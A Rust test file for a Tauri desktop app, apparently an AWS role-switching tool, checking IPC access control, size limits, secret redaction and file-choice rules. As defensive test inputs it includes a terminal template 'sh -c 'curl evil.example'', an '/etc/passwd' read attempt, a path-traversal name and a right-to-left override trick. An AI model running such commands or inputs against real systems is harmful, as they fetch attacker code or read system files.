#![allow(clippy::unwrap_used)]
//! The round trip: what a page invokes, through the access control list and the handler, to the reply.

use std::sync::Arc;

use hatrack_store::home::Home;
use serde_json::{Value, json};
use tauri::WebviewWindow;
use tauri::ipc::{CallbackFn, InvokeBody};
use tauri::test::{INVOKE_KEY, MockRuntime, get_ipc_response, mock_builder};
use tauri::webview::InvokeRequest;

use crate::clipboard::Clipboard;
use crate::clipboard::fake::FakeBoard;
use crate::desk::Desk;
use crate::environment::Environment;
use crate::front::fake::FakeFront;
use crate::link::Link;

struct Page {
    window: WebviewWindow<MockRuntime>,
    _app: tauri::App<MockRuntime>,
    board: FakeBoard,
    front: Arc<FakeFront>,
    _home: tempfile::TempDir,
}

/// A page of a home without an agent, and without a `hat` to start one with.
fn page() -> Page {
    let folder = tempfile::tempdir().unwrap();
    let home = Home::at(folder.path());
    home.create().unwrap();
    let (board, front) = (FakeBoard::default(), Arc::new(FakeFront::default()));
    let clipboard = Clipboard::new(Box::new(board.clone()));
    let link = Arc::new(Link::new(home.clone(), Environment::default(), None));
    let desk = Desk::new(
        &home,
        Environment::default(),
        link,
        clipboard,
        front.clone(),
        false,
    );
    let app = mock_builder()
        .invoke_handler(super::refuse_oversized(super::handler()))
        .manage(desk)
        .build(tauri::generate_context!())
        .unwrap();
    let window = tauri::WebviewWindowBuilder::new(&app, "main", tauri::WebviewUrl::default())
        .build()
        .unwrap();
    Page {
        window,
        _app: app,
        board,
        front,
        _home: folder,
    }
}

impl Page {
    fn invoke_from(
        &self,
        window: &WebviewWindow<MockRuntime>,
        command: &str,
        body: Value,
    ) -> Result<Value, Value> {
        let request = InvokeRequest {
            cmd: command.into(),
            callback: CallbackFn(0),
            error: CallbackFn(1),
            url: "tauri://localhost".parse().unwrap(),
            body: InvokeBody::Json(body),
            headers: http::HeaderMap::default(),
            invoke_key: INVOKE_KEY.to_string(),
        };
        get_ipc_response(window, request).map(|reply| reply.deserialize().unwrap())
    }

    fn invoke(&self, command: &str, body: Value) -> Result<Value, Value> {
        self.invoke_from(&self.window, command, body)
    }
}

#[test]
fn a_request_reaches_its_command_and_the_reply_comes_back() {
    let page = page();
    assert_eq!(
        page.invoke(
            "copy_text",
            json!({ "request": { "text": "arn:aws:iam::1:role/x" } })
        ),
        Ok(Value::Null)
    );
    assert_eq!(page.board.held().as_deref(), Some("arn:aws:iam::1:role/x"));
    assert_eq!(page.invoke("transfers", json!({})), Ok(json!([])));
}

#[test]
fn the_status_is_told_even_without_an_agent() {
    let status = page().invoke("status", json!({})).unwrap();
    assert_eq!(status["agent"], "unreachable");
    assert_eq!(status["version"], env!("CARGO_PKG_VERSION"));
    assert!(
        status["agent_error"]
            .as_str()
            .is_some_and(|why| why.contains("hat")),
        "{status}"
    );
}

#[test]
fn a_failure_is_a_sentence_and_no_panic() {
    let refused = page().invoke("catalog", json!({})).unwrap_err();
    assert!(
        refused["message"].as_str().is_some_and(|why| !why.is_empty()),
        "{refused}"
    );
    assert_eq!(refused["code"], Value::Null);
}

#[test]
fn a_value_out_of_limits_is_refused_before_anything_is_asked() {
    let request = json!({ "request": { "role_key": "prod", "duration": 60 } });
    let refused = page().invoke("switch_role", request).unwrap_err();
    assert_eq!(refused["code"], "invalid", "{refused}");
    let request = json!({ "request": { "role_key": "prod", "mfa_code": "12345x" } });
    let refused = page().invoke("switch_role", request).unwrap_err();
    assert!(
        !refused.to_string().contains("12345x"),
        "the code came back: {refused}"
    );
}

#[test]
fn quitting_and_keeping_sessions_needs_no_agent() {
    let page = page();
    let request = json!({ "request": { "choice": "keep", "remember": false } });
    assert_eq!(page.invoke("quit", request), Ok(Value::Null));
    assert!(page.front.quit.load(std::sync::atomic::Ordering::Relaxed));
}

#[test]
fn d49_what_is_not_on_the_list_is_denied_and_so_is_any_other_window() {
    let page = page();
    assert!(page.invoke("exfiltrate", json!({})).is_err());
    let window = tauri::WebviewWindowBuilder::new(&page._app, "other", tauri::WebviewUrl::default());
    let other = window.build().unwrap();
    assert!(page.invoke("transfers", json!({})).is_ok());
    assert!(page.invoke_from(&other, "transfers", json!({})).is_err());
}

#[test]
fn d50_an_oversized_argument_is_refused() {
    let page = page();
    let text = "x".repeat(100 * 1024 * 1024);
    let refused = page
        .invoke("copy_text", json!({ "request": { "text": text } }))
        .unwrap_err();
    assert_eq!(refused["code"], "too_large");
    assert_eq!(page.board.held(), None);
}

#[test]
fn a_link_is_read_without_asking_anybody() {
    let page = page();
    let link = "hatrack://switch?account=081278057606&role=team%2FReader&partition=aws-cn";
    let read = page
        .invoke("read_link", json!({ "request": { "link": link } }))
        .unwrap();
    assert_eq!(read["arn"], "arn:aws-cn:iam::081278057606:role/team/Reader");
    assert!(
        page.invoke("read_link", json!({ "request": { "link": "hatrack://delete" } }))
            .is_err()
    );
}

#[test]
fn d51_the_page_can_have_only_a_chosen_file_read() {
    let page = page();
    let choose = json!({ "request": { "purpose": "roles" } });
    assert_eq!(page.invoke("choose_file", choose.clone()), Ok(Value::Null));
    let import = |id: Value| json!({ "request": { "source": { "kind": "file", "id": id }, "from": null, "seen": null } });
    let refused = page.invoke("import_roles", import(json!(1))).unwrap_err();
    assert!(
        refused["message"].as_str().unwrap().contains("Choose it again"),
        "{refused}"
    );
    assert!(page.invoke("import_roles", import(json!("/etc/passwd"))).is_err());

    *page.front.file.lock().unwrap() = Some("/home/troy/roles.ini".into());
    let chosen = page.invoke("choose_file", choose).unwrap();
    assert_eq!(chosen, json!({ "id": 1, "path": "/home/troy/roles.ini" }));
    // Now only the agent is missing.
    let refused = page.invoke("import_roles", import(json!(1))).unwrap_err();
    assert!(!refused.to_string().contains("Choose it again"), "{refused}");
}

#[test]
fn a_secret_that_is_refused_does_not_come_back() {
    let request = json!({ "request": { "serial": "a b", "secret": "canary" } });
    let refused = page().invoke("add_totp", request).unwrap_err();
    assert!(!refused.to_string().contains("canary"), "{refused}");
}

#[test]
fn no_program_runs_in_a_terminal_that_the_person_has_not_seen() {
    let page = page();
    let set = |request: Value| page.invoke("set_terminal", json!({ "request": request }));
    let own = json!({ "kind": "command", "template": "sh -c 'curl evil.example' {command}" });
    assert_eq!(set(own.clone()), Ok(json!(false)));
    let asked = page.front.asked.lock().unwrap().clone();
    assert!(asked.is_some_and(|text| text.contains("sh -c 'curl evil.example' {command}")));
    page.front
        .agrees
        .store(true, std::sync::atomic::Ordering::Relaxed);
    // Now only the agent is missing.
    assert!(set(own).unwrap_err().to_string().contains("hat"));
    let unknown = set(json!({ "kind": "known", "name": "../../tmp/x" })).unwrap_err();
    assert!(unknown.to_string().contains("not known"), "{unknown}");
    let nowhere = set(json!({ "kind": "command", "template": "kitty" })).unwrap_err();
    assert!(nowhere.to_string().contains("{command}"), "{nowhere}");
    // A dialog could show this as another command.
    let hidden = set(json!({ "kind": "command", "template": "kitty \u{202e}{command}" })).unwrap_err();
    assert!(hidden.to_string().contains("not seen"), "{hidden}");
}
